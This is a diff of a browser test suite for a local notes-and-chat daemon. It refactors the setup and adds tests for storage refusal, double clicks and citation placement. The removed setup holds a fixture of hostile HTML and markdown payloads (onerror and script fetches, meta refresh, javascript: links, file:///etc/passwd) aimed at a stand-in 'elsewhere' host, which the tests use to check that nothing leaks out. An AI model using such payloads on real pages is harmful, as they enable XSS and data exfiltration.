@@ -1,83 +1,9 @@
 // The page that the daemon serves, in a real browser, against the packaged daemon and a stand-in for Ollama.
 import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
-import { after, afterEach, before, beforeEach, describe, test } from "node:test";
-import { ANSWER, Ollama } from "../../scripts/client-checks/ollama.mjs";
-import { launch } from "./lib/chromium.mjs";
-import { Daemon, until } from "./lib/daemon.mjs";
-import { Elsewhere, openPage } from "./lib/page.mjs";
-
-const TIMEOUT = { timeout: 240_000 };
-const QUESTION = "How hot is the water for green tea?";
-
-let ollama;
-let daemon;
-let elsewhere;
-let browser;
-let reader;
-
-function notes(leak) {
-  return {
-    "Drinks/Tea.md": "---\ntags: [drinks]\n---\n# Tea\n\n## Water\n\nGreen tea wants water of seventy degrees.\n\nNot more.\n",
-    "Drinks/Coffee.md": "# Coffee\n\nCoffee wants water of ninety degrees.\n",
-    "Boat.md": "# Boat\n\nInes and I sold the boat in May.\n",
-    "Trap.md": `# Trap\n\nA quarrelsome zeppelin note.\n\n${hostile(leak)}\n`,
-  };
-}
-
-/** What would tell somebody elsewhere that it was read. */
-function hostile(leak) {
-  return [
-    `![image](${leak}/image?q=secret) ![reference][there]`,
-    `<img src="${leak}/raw" onerror="fetch('${leak}/error')"><iframe src="${leak}/frame"></iframe>`,
-    `<link rel="prefetch" href="${leak}/prefetch"><link rel="stylesheet" href="${leak}/style.css">`,
-    `<style>@import url(${leak}/import.css);</style><svg><image href="${leak}/svg"/></svg>`,
-    `<script>fetch("${leak}/script")</script><video src="${leak}/video" autoplay></video><object data="${leak}/object"></object>`,
-    `<meta http-equiv="refresh" content="0;url=${leak}/refresh"><base href="${leak}/"><form action="${leak}/form"><input autofocus onfocus="fetch('${leak}/focus')"></form>`,
-    `[a link](${leak}/link) [script](javascript:fetch('${leak}/javascript')) [file](file:///etc/passwd) [data](data:text/html,x) [here](/app.js) <${leak}/auto> ${leak}/bare`,
-    `[there]: ${leak}/reference`,
-  ].join("\n\n");
-}
-
-before(async () => {
-  elsewhere = await Elsewhere.listen();
-  ollama = await Ollama.start();
-  daemon = await Daemon.create(notes(elsewhere.url));
-  await daemon.start(ollama.url);
-  browser = await launch();
-}, TIMEOUT);
-
-after(async () => {
-  await browser?.close();
-  await daemon?.end();
-  ollama?.stop();
-  elsewhere?.stop();
-}, TIMEOUT);
-
-beforeEach(() => {
-  ollama.answer = ANSWER;
-  ollama.pauseMillis = 0;
-});
-
-afterEach(async () => {
-  const { requests, faults } = reader;
-  await reader.close();
-  const origin = daemon.address()?.url ?? new URL(requests[0]).origin;
-  assert.deepEqual(requests.filter((url) => new URL(url).origin !== origin), [], "requests to other places");
-  assert.equal(elsewhere.count, 0, "connections to elsewhere");
-  assert.deepEqual(faults, []);
-});
-
-/** All that the model was given last. */
-function prompt() {
-  return ollama.asked.at(-1).messages.map(({ content }) => content).join("\n");
-}
-
-async function opened(options) {
-  reader = await openPage(browser, daemon, options);
-  await reader.page.getByText("Up to date").waitFor();
-  return reader;
-}
+import { describe, test } from "node:test";
+import { ANSWER } from "../../scripts/client-checks/ollama.mjs";
+import { daemon, elsewhere, hostile, ollama, opened, openedAt, QUESTION, reader, TIMEOUT } from "./lib/served-page.mjs";
 
 describe("the page", TIMEOUT, () => {
   test("answers as the words come, with its sources", async () => {
@@ -208,9 +134,45 @@ describe("the page", TIMEOUT, () => {
     await reader.answer.getByText("seventy degrees").waitFor();
   });
 
+  test("answers where the browser keeps nothing", async () => {
+    await opened({ init: refuseStorage });
+    await reader.ask(QUESTION);
+    await reader.answer.getByText("seventy degrees").waitFor();
+    await reader.page.getByText("This chat could not be kept.").waitFor();
+  });
+
+  test("takes a double click on Send or Stop for one", async () => {
+    const { page } = await opened();
+    ollama.stuck = true;
+    await reader.field.fill(QUESTION);
+    await reader.button("Send").dblclick();
+    await reader.answer.getByText("Green").waitFor();
+    await reader.field.fill("And coffee?");
+    await reader.button("Stop").dblclick();
+    await ollama.clientLeaves();
+    await page.getByText("Stopped.", { exact: true }).waitFor();
+    assert.equal(await reader.field.inputValue(), "And coffee?");
+  });
+
+  test("shows that another tab is still being answered, and that it no longer is", async () => {
+    const { page } = await opened();
+    await reader.ask(QUESTION);
+    const other = await page.context().newPage();
+    await other.goto(daemon.address().url);
+    await other.getByRole("button", { name: "Earlier chats" }).click();
+    await other.locator(".vk-history-open").click();
+    ollama.stuck = true;
+    await reader.begin("And coffee?");
+    await other.locator('.vk-turn[aria-busy="true"]').getByText("And coffee?").waitFor();
+    assert.equal(await other.getByText("Stopped.", { exact: true }).count(), 0);
+    await page.close();
+    await other.getByText("Stopped.", { exact: true }).waitFor();
+    await ollama.clientLeaves();
+  });
+
   test("tells one who has no token, or a wrong one, where to get it, and takes it without a reload", async () => {
     for (const token of [null, "wrong"]) {
-      reader = await openPage(browser, daemon, { token });
+      await openedAt(daemon, { token });
       await reader.page.getByText("Open the address that it printed when it started.").waitFor();
       await reader.page.evaluate((right) => location.assign(`#token=${right}`), daemon.address().token);
       await reader.page.getByText("Up to date").waitFor();
@@ -233,6 +195,18 @@ describe("the page's citations", TIMEOUT, () => {
     assert.ok(Math.abs(card.y - (at.y + at.height)) < 4, `the citation ends at ${at.y + at.height}, its card begins at ${card.y}`);
   });
 
+  test("have it above them where the view ends below", async () => {
+    const { page } = await opened({ viewport: { width: 900, height: 500 } });
+    ollama.answer = `${Array.from({ length: 20 }, (_, i) => `Paragraph ${i}.`).join("\n\n")} [1]`;
+    await reader.ask(QUESTION);
+    const cite = reader.answer.locator(".vk-cite");
+    await cite.evaluate((element) => element.scrollIntoView({ block: "end" }));
+    await cite.hover();
+    const [at, card, view] = [await cite.boundingBox(), await page.getByRole("tooltip").boundingBox(), await page.locator(".vk-turns").boundingBox()];
+    assert.ok(Math.abs(card.y + card.height - at.y) < 4, `its card ends at ${card.y + card.height}, the citation begins at ${at.y}`);
+    assert.ok(card.y >= view.y, "all of it is seen");
+  });
+
   test("keep the focus while the answer goes on", async () => {
     const { page } = await opened();
     ollama.answer = `Seventy [1] degrees ${"and so on ".repeat(40)}.`;
@@ -244,268 +218,6 @@ describe("the page's citations", TIMEOUT, () => {
     assert.ok((await reader.answer.textContent()).length > early + 50, "it has grown since");
     assert.equal(await page.evaluate(() => document.activeElement.className), "vk-cite");
   });
-});
-
-describe("the page by keyboard alone", TIMEOUT, () => {
-  test("asks before it deletes a chat, and goes on in the list", async () => {
-    const { page } = await opened();
-    await reader.ask(QUESTION);
-    await reader.button("Earlier chats").press("Enter");
-    const remove = page.getByRole("button", { name: `Delete the chat “${QUESTION}”` });
-    await remove.press("Enter");
-    await reader.button("Cancel").press("Enter");
-    assert.equal(await page.evaluate(() => document.activeElement.type), "search");
-    await remove.press("Enter");
-    assert.equal(await page.evaluate(() => document.activeElement.textContent), "Delete");
-    assert.equal(await page.locator(".vk-history-line").count(), 1, "nothing is deleted yet");
-    await page.keyboard.press("Enter");
-    await page.getByText("No chats yet.").waitFor();
-    assert.equal(await page.evaluate(() => document.activeElement.type), "search");
-  });
-
-  test("goes on from the title that was edited, and from the end that was sought", async () => {
-    const { page } = await opened({ viewport: { width: 900, height: 300 } });
-    ollama.answer = Array.from({ length: 30 }, (_, i) => `Paragraph ${i} [1].`).join("\n\n");
-    await reader.ask(QUESTION);
-    for (const key of ["Enter", "Escape"]) {
-      await page.locator("button.vk-title").press("Enter");
-      await page.getByRole("textbox", { name: "Rename this chat" }).press(key);
-      await page.locator("button.vk-title:focus").waitFor();
-    }
-    await page.locator(".vk-turns").evaluate((box) => { box.scrollTop = 0; });
-    await reader.button("To the end").press("Enter");
-    await reader.button("To the end").waitFor({ state: "detached" });
-    assert.equal(await page.evaluate(() => document.activeElement.className), "vk-turns");
-  });
-
-  test("takes what is being named by @, not what was listed before", async () => {
-    const { page } = await opened();
-    await reader.field.focus();
-    await page.keyboard.type("How hot? @cof");
-    await page.getByRole("option", { name: /Coffee/ }).first().waitFor();
-    await page.keyboard.press("Backspace");
-    await page.keyboard.press("Backspace");
-    await page.keyboard.press("Backspace");
-    await page.keyboard.type("tea");
-    await page.keyboard.press("Enter");
-    await page.getByRole("button", { name: "Do not narrow to Tea" }).waitFor();
-    await page.route("**/suggest?*", () => undefined); // days are known without an answer
-    await page.keyboard.type("@last m");
-    await page.keyboard.press("Enter");
-    await page.getByRole("button", { name: "Do not narrow to last month" }).waitFor();
-    assert.equal(await reader.turns.count(), 0, "nothing was sent");
-  });
-
-  async function tabTo(name) {
-    const { page } = reader;
-    for (let i = 0; i < 40; i++) {
-      await page.keyboard.press("Tab");
-      const focused = await page.evaluate(() => {
-        const element = document.activeElement;
-        return element.getAttribute("aria-label") || element.textContent;
-      });
-      if (focused === name) {
-        return;
-      }
-    }
-    assert.fail(`Tab never came to ${name}`);
-  }
-
-  test("asks, opens a source and comes back", async () => {
-    const { page } = await opened();
-    await tabTo("Your question");
-    await page.keyboard.type(QUESTION);
-    await page.keyboard.press("Shift+Enter");
-    await page.keyboard.type("In degrees.");
-    await page.keyboard.press("Enter");
-    await reader.answer.getByText("seventy degrees").waitFor();
-    await reader.ended();
-    assert.ok(prompt().includes(`${QUESTION}\nIn degrees.`));
-    await page.locator("h1").click();
-    await tabTo("Source 1: Tea › Water");
-    await page.getByRole("tooltip").waitFor();
-    await page.keyboard.press("Enter");
-    await page.getByRole("dialog", { name: "Passage" }).waitFor();
-    await page.keyboard.press("Escape");
-    await page.getByRole("dialog").waitFor({ state: "detached" });
-    assert.equal(await page.evaluate(() => document.activeElement.textContent), "[1]", "the reader is where he was");
-  });
-
-  test("narrows the question by @, and widens it again", async () => {
-    const { page } = await opened();
-    await reader.field.focus();
-    await page.keyboard.type("How hot? @cof");
-    await page.getByRole("option", { name: /Coffee/ }).first().waitFor();
-    await page.keyboard.press("ArrowDown");
-    await page.keyboard.press("ArrowUp");
-    await page.keyboard.press("Enter");
-    await page.getByRole("button", { name: "Do not narrow to Coffee" }).waitFor();
-    assert.equal(await reader.field.inputValue(), "How hot? ");
-    await page.keyboard.press("Enter");
-    await reader.answer.getByText("degrees").waitFor();
-    await reader.ended();
-    assert.match(prompt(), /ninety degrees/);
-    assert.doesNotMatch(prompt(), /seventy degrees/);
-    await page.getByRole("button", { name: "Do not narrow to Coffee" }).press("Enter");
-    assert.equal(await page.locator(".vk-chip").count(), 0);
-  });
-
-  test("searches, chooses by arrows and opens", async () => {
-    const { page } = await opened();
-    await page.keyboard.press("Control+k");
-    await page.getByRole("combobox", { name: "Search" }).waitFor();
-    await page.keyboard.type("water degrees");
-    await page.locator(".vk-result").nth(1).waitFor();
-    await page.keyboard.press("ArrowDown");
-    const second = await page.locator('[role="option"][aria-selected="true"] .vk-result-title').textContent();
-    await page.keyboard.press("Enter");
-    await page.getByRole("dialog", { name: "Passage" }).getByRole("heading", { name: second, exact: true }).waitFor();
-    await page.keyboard.press("Escape");
-    await page.getByRole("dialog").waitFor({ state: "detached" });
-  });
-
-  test("stops by Escape, and edits the last question by the upper arrow", async () => {
-    const { page } = await opened();
-    ollama.stuck = true;
-    await reader.begin(QUESTION);
-    await reader.answer.getByText("Green").waitFor();
-    await page.keyboard.press("Escape");
-    await ollama.clientLeaves();
-    await page.getByText("Stopped.", { exact: true }).waitFor();
-    await page.keyboard.press("ArrowUp");
-    await page.locator(".vk-question-editor textarea:focus").waitFor();
-    await page.keyboard.type(" Really?");
-    await page.keyboard.press("Enter");
-    await reader.answer.getByText("seventy degrees").waitFor();
-    assert.equal(await reader.last.locator(".vk-question-text").textContent(), `${QUESTION} Really?`);
-    await reader.ended();
-  });
-
-  test("reads what the index does, and orders a look for changes", async () => {
-    const { page } = await opened();
-    await page.locator(".page-bar").getByRole("button", { name: "Up to date" }).press("Enter");
-    const dialog = page.getByRole("dialog", { name: "Index" });
-    await dialog.getByText("4 notes").waitFor();
-    await dialog.getByRole("button", { name: "Look for changes" }).press("Enter");
-    await page.keyboard.press("Escape");
-    await dialog.waitFor({ state: "detached" });
-  });
-});
-
-describe("the page's looks", TIMEOUT, () => {
-  for (const colorScheme of ["light", "dark"]) {
-    test(`have enough contrast in the ${colorScheme} theme`, async () => {
-      const { page } = await opened({ colorScheme });
-      await reader.ask(QUESTION);
-      const texts = [".vk-question-text", ".vk-markdown p", ".vk-trace", ".vk-source-title", ".vk-cite", ".page-bar button"];
-      for (const selector of texts) {
-        const ratio = await page.locator(selector).first().evaluate(contrast);
-        assert.ok(ratio >= 4.5, `${selector} has a contrast of ${ratio.toFixed(1)}`);
-      }
-    });
-  }
-
-  test("let each title and name run in its own direction", async () => {
-    const { page } = await opened();
-    await reader.ask(QUESTION);
-    await reader.last.locator(".vk-source-title").first().click();
-    await page.getByRole("dialog", { name: "Passage" }).waitFor();
-    for (const selector of [".vk-title", ".vk-source-title", ".page-passage h2", ".page-passage-text"]) {
-      const bidi = await page.locator(selector).first().evaluate((element) => getComputedStyle(element).unicodeBidi);
-      assert.equal(bidi, "plaintext", selector);
-    }
-  });
-
-  test("fit into 250 pixels, and nothing scrolls sideways", async () => {
-    const { page } = await opened({ viewport: { width: 250, height: 600 } });
-    ollama.answer = `A_very_long_word_${"without_a_break_".repeat(12)} [1]\n\n\`\`\`\n${"code ".repeat(60)}\n\`\`\`\n\n|a|b|c|d|e|\n|-|-|-|-|-|\n|${"cell with words|".repeat(5)}\n`;
-    await reader.ask(QUESTION);
-    await reader.last.locator(".vk-source-fold").first().click();
-    await sidewaysNothing(page);
-    await reader.button("How the context was spent").click();
-    await reader.last.locator(".vk-source-title").first().click();
-    await page.getByRole("dialog").waitFor();
-    await sidewaysNothing(page);
-    await page.keyboard.press("Escape");
-    await page.keyboard.press("Control+k");
-    await page.keyboard.type("water");
-    await page.locator(".vk-result").first().waitFor();
-    await sidewaysNothing(page);
-  });
-});
-
-/** Of a text before its background, as WCAG reckons it. Runs on the page. */
-function contrast(element) {
-  const channels = (color) => color.match(/[\d.]+/g).map(Number);
-  const luminance = (color) => {
-    const [r, g, b] = channels(color).map((c) => (c / 255 <= 0.04045 ? c / 255 / 12.92 : ((c / 255 + 0.055) / 1.055) ** 2.4));
-    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
-  };
-  let ground = element;
-  while (ground.parentElement && (channels(getComputedStyle(ground).backgroundColor)[3] ?? 1) === 0) {
-    ground = ground.parentElement;
-  }
-  const [light, dark] = [getComputedStyle(element).color, getComputedStyle(ground).backgroundColor]
-    .map(luminance)
-    .sort((a, b) => b - a);
-  return (light + 0.05) / (dark + 0.05);
-}
-
-async function sidewaysNothing(page) {
-  const wide = await page.evaluate(() =>
-    [...document.querySelectorAll("body, body *")]
-      .filter((element) => !element.closest("pre, table, .vk-announcer, .vk-one-line"))
-      .filter((element) => element.getBoundingClientRect().right > document.documentElement.clientWidth + 1)
-      .map((element) => `${element.tagName}.${element.className}`),
-  );
-  assert.deepEqual(wide, []);
-  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 250);
-}
-
-describe("a long answer", TIMEOUT, () => {
-  test("leaves the page responsive, and its reader where he scrolled to", async (t) => {
-    const { page } = await opened();
-    const text = Array.from({ length: 24 }, (_, i) => `## Part ${i}\n\n${paragraph(i)} [1]\n`).join("\n");
-    assert.ok(text.length > 10_000);
-    ollama.answer = text;
-    ollama.pauseMillis = 10;
-    await page.evaluate(() => {
-      window.longest = 0;
-      let last = performance.now();
-      setInterval(() => {
-        const now = performance.now();
-        window.longest = Math.max(window.longest, now - last);
-        last = now;
-      }, 10);
-    });
-    await reader.begin(QUESTION);
-    await reader.answer.getByText("Part 6", { exact: true }).waitFor();
-    assert.ok(await fromEnd(page) < 40, "the view follows");
-    await page.locator(".vk-turns").hover();
-    await page.mouse.wheel(0, -300);
-    await reader.button("To the end").waitFor();
-    const top = await scrollTop(page);
-    await reader.answer.getByText("Part 10", { exact: true }).waitFor();
-    assert.equal(await scrollTop(page), top, "the reader stays");
-    await reader.field.fill("Typing goes on meanwhile");
-    await reader.button("To the end").click();
-    await reader.answer.getByText("Part 14", { exact: true }).waitFor();
-    assert.ok(await fromEnd(page) < 40, "the view follows again");
-    await reader.ended();
-    assert.equal(await reader.answer.locator("h2").count(), 24);
-    const longest = await page.evaluate(() => window.longest);
-    t.diagnostic(`the page was busy for ${Math.round(longest)} ms at the longest`);
-    assert.ok(longest < 500, `busy for ${longest} ms`);
-  });
-
-  /** Each its own: the daemon ends an answer that goes round in circles. */
-  function paragraph(part) {
-    const words = ["kettle", "boat", "lake", "winter", "oars", "letter", "starter", "window", "train", "lemon", "ink"];
-    return Array.from({ length: 75 }, (_, i) => `${words[(i * i + part) % words.length]} ${1900 + part + i}`).join(" ");
-  }
-
-  const scrollTop = (page) => page.locator(".vk-turns").evaluate((box) => box.scrollTop);
-  const fromEnd = (page) => page.locator(".vk-turns").evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
 });
 
 describe("hostile notes and answers", TIMEOUT, () => {
@@ -538,77 +250,13 @@ describe("hostile notes and answers", TIMEOUT, () => {
   });
 });
 
-describe("the page and a daemon that comes and goes", TIMEOUT, () => {
-  test("says that it is gone, keeps what came, and goes on by itself", async () => {
-    const { page } = await opened();
-    await reader.ask(QUESTION);
-    ollama.stuck = true;
-    await reader.begin("And coffee?");
-    await reader.answer.getByText("Green").waitFor();
-    const port = new URL(daemon.address().url).port;
-    await daemon.stop();
-    ollama.stuck = false;
-    await page.getByText("daemon does not answer").first().waitFor();
-    await reader.last.locator(".vk-notice.vk-warning").waitFor();
-    assert.match(await reader.last.locator(".vk-markdown").first().textContent(), /Green/);
-    await daemon.start(ollama.url, port);
-    await page.evaluate((token) => location.assign(`#token=${token}`), daemon.address().token);
-    await page.getByText("Up to date").waitFor();
-    await reader.button("Retry").click();
-    await reader.answer.getByText("seventy degrees").waitFor();
-    reader.faults = reader.faults.filter((fault) => !/ERR_|401/.test(fault));
-  });
-});
-
-describe("the page at an address that serves another vault", TIMEOUT, () => {
-  test("begins a new chat, and leaves the old one to its vault", async () => {
-    const { page } = await opened();
-    await reader.ask(QUESTION);
-    const port = new URL(daemon.address().url).port;
-    await daemon.stop();
-    const other = await Daemon.create({ "Other.md": "# Other\n\nAnother vault.\n" });
-    try {
-      await other.start(ollama.url, port);
-      await page.evaluate((token) => location.assign(`#token=${token}`), other.address().token);
-      await page.getByText("Up to date").waitFor();
-      await reader.turns.first().waitFor({ state: "detached" });
-      await reader.button("Earlier chats").click();
-      await page.getByText("No chats yet.").waitFor();
-      await page.reload();
-      await page.getByText("Up to date").waitFor();
-      assert.equal(await reader.turns.count(), 0);
-    } finally {
-      await other.end();
-      await daemon.start(ollama.url, port);
-    }
-    await page.evaluate((token) => location.assign(`#token=${token}`), daemon.address().token);
-    await page.getByText("Up to date").waitFor();
-    await reader.button("Earlier chats").click();
-    await page.locator(".vk-history-open").click();
-    await reader.answer.getByText("seventy degrees").waitFor();
-    reader.faults = reader.faults.filter((fault) => !/ERR_|401/.test(fault));
-  });
-});
-
-describe("the page without a model", TIMEOUT, () => {
-  let alone;
-
-  before(async () => {
-    alone = await Daemon.create(notes(elsewhere.url));
-    await alone.start(null);
-  }, TIMEOUT);
-
-  after(() => alone.end(), TIMEOUT);
-
-  test("quotes the notes, and says so", async () => {
-    reader = await openPage(browser, alone);
-    await reader.page.getByText("No model is running, so answers will be quotes from your notes.").waitFor();
-    await reader.ask(QUESTION);
-    await reader.answer.getByText("Quotes from your notes").waitFor();
-    await reader.answer.locator("blockquote").getByText("seventy degrees").waitFor();
-    await reader.answer.locator(".vk-cite").first().click();
-    await reader.page.getByRole("dialog", { name: "Passage" }).waitFor();
-    reader.requests = reader.requests.filter((url) => !url.startsWith(alone.address().url));
-    await until("nothing else was asked", () => reader.requests.length === 0);
-  });
-});
+/** As a browser that blocks cookies does. Runs on the page. */
+function refuseStorage() {
+  for (const name of ["localStorage", "sessionStorage", "indexedDB"]) {
+    Object.defineProperty(window, name, {
+      get: () => {
+        throw new DOMException("Access is denied.", "SecurityError");
+      },
+    });
+  }
+}
